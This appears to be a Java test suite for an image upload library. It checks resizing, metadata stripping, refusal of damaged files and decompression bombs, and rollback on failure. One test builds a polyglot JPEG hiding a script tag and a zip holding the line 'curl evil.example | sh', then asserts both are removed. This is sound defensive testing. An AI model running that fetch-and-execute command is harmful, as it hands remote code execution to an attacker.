package org.vistka.media;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.vistka.testing.TestDatabase;
import org.vistka.testing.TestSite;

/** Uploads into the media library, on SQLite and PostgreSQL: what is stored, and that a refused upload leaves nothing. */
class MediaLibraryTest {
    private static final Map<TestDatabase, TestSite> SITES = new EnumMap<>(TestDatabase.class);
    private static final long LIMIT = ImageInspector.DEFAULT_MAX_BYTES;
    private static final String DAMAGED = "This image file is damaged or incomplete. Try exporting it again.";

    @TempDir
    Path folder;
    private TestSite site;
    private MediaLibrary library;

    @AfterAll
    static void closeSites() {
        SITES.values().forEach(TestSite::close);
        SITES.clear();
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void an_upload_is_stored_once_at_every_responsive_width_and_found_again(TestDatabase db) throws IOException {
        on(db);
        byte[] upload = TestImages.jpeg(1700, 850);

        MediaItem item = library.upload("C:\\fakepath\\Ferry at the pier.JPG", upload, 7L, LIMIT);

        assertThat(item.variants()).extracting(v -> v.width() + "x" + v.height())
                .containsExactly("480x240", "800x400", "1200x600", "1600x800", "1700x850");
        assertThat(item.fileStem()).matches("[a-z0-9]{12}-ferry-at-the-pier");
        assertThat(item.url()).isEqualTo("/media/" + item.fileStem() + "-1700.jpg");
        assertThat(List.of(item.width(), item.height())).containsExactly(1700, 850);
        assertThat(item.srcset()).isEqualTo(Stream.of(480, 800, 1200, 1600, 1700)
                .map(w -> "/media/" + item.fileStem() + "-" + w + ".jpg " + w + "w").reduce((a, b) -> a + ", " + b).orElseThrow());
        assertThat(item).extracting(MediaItem::originalName, MediaItem::kind, MediaItem::originalByteSize, MediaItem::uploadedBy)
                .containsExactly("Ferry at the pier.JPG", ImageKind.JPEG, (long) upload.length, 7L);
        assertThat(filesIn(folder)).containsExactlyInAnyOrderElementsOf(item.variants().stream().map(MediaVariant::fileName).toList());
        for (MediaVariant variant : item.variants()) {
            byte[] stored = Files.readAllBytes(folder.resolve(variant.fileName()));
            assertThat(variant.fileName()).matches("[A-Za-z0-9][A-Za-z0-9._-]{0,200}"); // what the site serves
            assertThat(stored).hasSize((int) variant.byteSize());
            BufferedImage decoded = TestImages.decode(stored);
            assertThat(decoded.getWidth() + "x" + decoded.getHeight()).isEqualTo(variant.width() + "x" + variant.height());
        }
        assertThat(library.find(item.id())).contains(item);
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void the_location_comments_and_xmp_of_a_photo_are_in_no_stored_file(TestDatabase db) throws IOException {
        on(db);
        byte[] upload = TestImages.withSegments(TestImages.jpeg(900, 600), TestImages.exif(1, "GPS-KYIV-50.4501N-30.5234E"),
                TestImages.segment(0xE1, bytes("http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>SECRET-XMP</x:xmpmeta>")),
                TestImages.segment(0xFE, bytes("Source: SECRET-NAME")));
        assertThat(TestImages.markersBeforeScan(upload)).contains(0xE1, 0xFE);

        library.upload("source.jpg", upload, null, LIMIT);

        assertThat(filesIn(folder)).hasSize(3).allSatisfy(name -> {
            byte[] stored = Files.readAllBytes(folder.resolve(name));
            assertThat(TestImages.markersBeforeScan(stored)).doesNotContain(0xE1, 0xFE).contains(0xDA);
            for (String secret : List.of("Exif", "GPS-KYIV", "50.4501", "xap/1.0", "SECRET-XMP", "SECRET-NAME")) {
                assertThat(TestImages.contains(stored, secret)).as("%s holds %s", name, secret).isFalse();
            }
        });
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void a_polyglot_is_stored_as_its_picture_alone_without_what_it_hid_after_it(TestDatabase db) throws IOException {
        on(db);
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry("payload.sh"));
            out.write(bytes("curl evil.example | sh"));
        }
        byte[] html = bytes("<html><body><script>fetch('/newsroom/members').then(r => r.text())</script></body></html>");

        library.upload("page.jpg", TestImages.concat(TestImages.jpeg(640, 480), html), null, LIMIT);
        library.upload("archive.jpg", TestImages.concat(TestImages.jpeg(640, 480), zip.toByteArray()), null, LIMIT);

        assertThat(filesIn(folder)).hasSize(4).allSatisfy(name -> {
            byte[] stored = Files.readAllBytes(folder.resolve(name));
            for (String hidden : List.of("<script", "<html", "PK\u0003\u0004", "payload.sh", "evil.example")) {
                assertThat(TestImages.contains(stored, hidden)).as("%s holds %s", name, hidden).isFalse();
            }
            assertThat(Arrays.copyOfRange(stored, stored.length - 2, stored.length)).containsExactly(0xFF, 0xD9);
        });
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void a_jpeg_cut_in_half_is_refused_and_leaves_no_file_and_no_row(TestDatabase db) throws IOException {
        on(db);
        byte[] photo = TestImages.jpeg(1200, 800);
        long rows = rows();

        assertThatThrownBy(() -> library.upload("cut.jpg", Arrays.copyOf(photo, photo.length / 2), null, LIMIT))
                .isInstanceOf(UploadRefused.class).hasMessage(DAMAGED);

        assertThat(filesIn(folder)).isEmpty();
        assertThat(rows()).isEqualTo(rows);
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void a_decompression_bomb_is_refused_before_decoding_and_leaves_nothing(TestDatabase db) throws IOException {
        on(db);
        byte[] bomb = TestImages.pngOfBlackPixels(10_000, 10_000, 10_000); // whole and valid: 300 MB of pixels
        assertThat(bomb.length).isLessThan(1_000_000);
        library.upload("tiny.png", TestImages.pngOfBlackPixels(8, 8, 8), null, LIMIT); // so ImageIO's start-up is not timed
        List<String> files = filesIn(folder);
        long rows = rows();

        long started = System.nanoTime();
        assertThatThrownBy(() -> library.upload("bomb.png", bomb, null, LIMIT)).isInstanceOf(UploadRefused.class)
                .hasMessageStartingWith("This image is too large: 10,000 × 10,000 pixels.");

        assertThat(System.nanoTime() - started).as("nanoseconds taken").isLessThan(1_000_000_000L);
        assertThat(filesIn(folder)).isEqualTo(files);
        assertThat(rows()).isEqualTo(rows);
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void a_failure_after_the_files_are_written_deletes_them_and_keeps_no_row(TestDatabase db) throws IOException {
        try (TestSite broken = TestSite.fresh(db, false)) {
            broken.jdbi().useHandle(h -> h.execute("DROP TABLE media_variant")); // the second insert will fail
            MediaLibrary failing = new MediaLibrary(broken.jdbi(), folder, broken.clock());

            assertThatThrownBy(() -> failing.upload("ferry.jpg", TestImages.jpeg(1000, 500), null, LIMIT))
                    .isNotInstanceOf(UploadRefused.class);

            assertThat(filesIn(folder)).isEmpty();
            long rows = broken.jdbi().withHandle(h -> h.createQuery("SELECT COUNT(*) FROM media").mapTo(Long.class).one());
            assertThat(rows).isZero();
        }
    }

    @ParameterizedTest
    @EnumSource(TestDatabase.class)
    void a_transparent_png_stays_png_while_opaque_pictures_become_jpeg(TestDatabase db) {
        on(db);

        MediaItem logo = library.upload("logo.png", TestImages.encode(translucent(), "png"), null, LIMIT);
        MediaItem chart = library.upload("chart.png", TestImages.encode(TestImages.scene(500, 300, BufferedImage.TYPE_INT_ARGB), "png"), null, LIMIT);
        MediaItem webp = library.upload("tram.webp", LosslessWebp.encode(TestImages.scene(500, 300, BufferedImage.TYPE_INT_RGB)), null, LIMIT);

        assertThat(logo.url()).endsWith("-200.png");
        assertThat(TestImages.decode(readFile(logo)).getRGB(0, 0) >>> 24).isZero();
        assertThat(chart.url()).endsWith("-500.jpg");
        assertThat(webp.url()).endsWith("-500.jpg");
        assertThat(library.find(webp.id()).orElseThrow().kind()).isEqualTo(ImageKind.WEBP);
        assertThat(library.find(logo.id()).orElseThrow().kind()).isEqualTo(ImageKind.PNG);
    }

    private void on(TestDatabase db) {
        site = SITES.computeIfAbsent(db, d -> TestSite.fresh(d, false));
        library = new MediaLibrary(site.jdbi(), folder, site.clock());
    }

    private long rows() {
        return site.jdbi().withHandle(h -> h.createQuery("SELECT (SELECT COUNT(*) FROM media) + (SELECT COUNT(*) FROM media_variant)")
                .mapTo(Long.class).one());
    }

    private byte[] readFile(MediaItem item) {
        try {
            return Files.readAllBytes(folder.resolve(item.largest().fileName()));
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    /** Every name in the folder, hidden ones too; none when the library never made the folder. */
    static List<String> filesIn(Path folder) throws IOException {
        if (!Files.exists(folder)) {
            return List.of();
        }
        try (Stream<Path> files = Files.list(folder)) {
            return files.map(path -> path.getFileName().toString()).sorted().toList();
        }
    }

    private static BufferedImage translucent() {
        BufferedImage image = new BufferedImage(200, 100, BufferedImage.TYPE_INT_ARGB);
        image.setRGB(50, 20, 0xFF336699);
        return image;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
